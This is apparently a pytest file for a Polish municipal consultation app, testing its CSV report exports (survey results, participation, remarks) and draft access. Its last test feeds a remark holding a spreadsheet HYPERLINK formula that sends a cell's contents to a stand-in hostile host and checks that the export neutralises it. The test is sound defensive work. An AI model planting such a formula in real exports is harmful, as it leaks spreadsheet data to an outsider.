"""The report's CSV exports: remarks, survey results and participation, each its own
parseable file."""

from __future__ import annotations

import csv
import io

import pytest

from tests.consultations.conftest import finish
from tests.consultations.test_participation import survey_values
from wiec.consultations import services

pytestmark = pytest.mark.django_db


def rows(client, path) -> list[list[str]]:
    response = client.get(path)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def published(consultation, make_resident, official):
    anna, jan = make_resident(), make_resident("podgorze")
    for person, single in ((anna, 0), (jan, 1)):
        survey, values = survey_values(consultation, single=single)
        services.answer_survey(actor=person, survey=survey, values=values)
    remark = services.comment_on_paragraph(
        actor=anna, paragraph=consultation.paragraphs.first(), text="Więcej zieleni"
    )
    services.answer_remark(actor=official, remark=remark, response="accepted", justification="Tak")
    finish(consultation)
    services.publish_report(actor=official, consultation=consultation, conclusions="Wnioski")
    return consultation


def test_survey_results_csv(client, published):
    table = rows(client, f"/konsultacje/{published.slug}/raport-ankiety.csv")
    head, body = table[0], table[1:]
    assert head == [
        "ankieta",
        "odpowiedzi na ankietę",
        "nr pytania",
        "pytanie",
        "rodzaj pytania",
        "osoby, które odpowiedziały na pytanie",
        "odpowiedź",
        "miara",
        "wartość",
    ]
    assert all(len(row) == len(head) for row in body)
    single = [row for row in body if row[3] == "Jak często?"]
    assert [(r[6], r[7], r[8]) for r in single] == [
        ("często", "odpowiedzi", "1"),
        ("rzadko", "odpowiedzi", "1"),
    ]
    assert single[0][1] == "2" and single[0][5] == "2"
    ranking = {r[6]: r[8] for r in body if r[3] == "Kolejność"}
    assert set(ranking) == {"A", "B", "C"} and {r[7] for r in body if r[3] == "Kolejność"} == {
        "punkty"
    }
    texts = [r for r in body if r[3] == "Uwagi?"]
    assert [(r[6], r[7]) for r in texts] == [("Dobrze", "odpowiedź otwarta")] * 2


def test_participation_csv(client, published):
    table = rows(client, f"/konsultacje/{published.slug}/raport-udzial.csv")
    assert table[0] == ["grupa", "etykieta", "liczba"]
    body = {(group, label): count for group, label, count in table[1:]}
    assert body[("razem", "osoby, które wzięły udział online")] == "2"
    assert body[("razem", "uwagi złożone na piśmie, e-mailem lub na spotkaniu")] == "0"
    assert body[("razem", "uwagi w raporcie")] == "1"
    assert body[("ankieta", "Ankieta")] == "2"
    assert body[("dzielnica", "I. Stare Miasto")] == "1"
    assert body[("dzielnica", "XIII. Podgórze")] == "1"
    assert sum(int(c) for (g, _label), c in body.items() if g == "grupa wiekowa") == 2


def test_remarks_csv_is_unchanged_and_linked(client, published):
    table = rows(client, f"/konsultacje/{published.slug}/raport.csv")
    assert len(table) == 2 and "Więcej zieleni" in table[1]
    page = client.get(f"/konsultacje/{published.slug}/raport/").content.decode()
    for name in ("raport.csv", "raport-ankiety.csv", "raport-udzial.csv"):
        assert f"/konsultacje/{published.slug}/{name}" in page


def test_draft_exports_are_for_the_office_only(client, consultation):
    for name in ("raport-ankiety.csv", "raport-udzial.csv"):
        assert client.get(f"/konsultacje/{consultation.slug}/{name}").status_code == 404


def test_a_remark_that_looks_like_a_formula_is_not_one_in_the_csv(
    client, consultation, make_resident, official
):
    remark = services.comment_on_paragraph(
        actor=make_resident(),
        paragraph=consultation.paragraphs.first(),
        text='=HYPERLINK("http://zly.example/?"&A1;"Kliknij")',
    )
    services.answer_remark(
        actor=official, remark=remark, response="accepted", justification="@SUMA(A1)"
    )
    finish(consultation)
    services.publish_report(actor=official, consultation=consultation, conclusions="Wnioski")
    body = rows(client, f"/konsultacje/{consultation.slug}/raport.csv")[1:]
    assert body[0][7] == '\'=HYPERLINK("http://zly.example/?"&A1;"Kliknij")'
    assert body[0][9] == "'@SUMA(A1)"
    assert body[0][0] == "1"
